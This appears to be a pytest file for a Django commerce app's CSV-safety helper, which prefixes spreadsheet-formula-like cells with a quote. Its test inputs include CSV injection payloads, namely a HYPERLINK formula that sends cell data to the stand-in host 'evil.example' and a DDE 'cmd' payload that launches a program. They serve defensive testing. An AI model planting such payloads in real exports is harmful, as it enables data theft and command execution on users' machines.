"""CSV cells a spreadsheet would run as formulas are written as text."""

import csv
import io
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy

from commerce.csv_safe import SafeCSVWriter, csv_safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "-12.50",  # text that looks like a number is text all the same
    ],
)
def test_text_a_spreadsheet_would_read_as_a_formula_is_quoted(text):
    assert csv_safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Ada Admin", "ada@example.com", "a=b", " =1", "", "100004", "'already"]
)
def test_other_text_is_left_alone(value):
    assert csv_safe_cell(value) == value


@pytest.mark.parametrize("value", [Decimal("-12.50"), -3, 2.5, 0, None, True])
def test_numbers_and_empty_cells_are_written_as_they_are(value):
    assert csv_safe_cell(value) is value


def test_lazy_translations_are_written_as_their_text():
    assert csv_safe_cell(gettext_lazy("Order number")) == "Order number"


def test_the_writer_neutralises_every_cell():
    out = io.StringIO(newline="")
    writer = SafeCSVWriter(open_file=out)
    writer.writerows([["Name", "Total"], ["=1+1", Decimal("-5.00")]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["Name", "Total"], ["'=1+1", "-5.00"]]
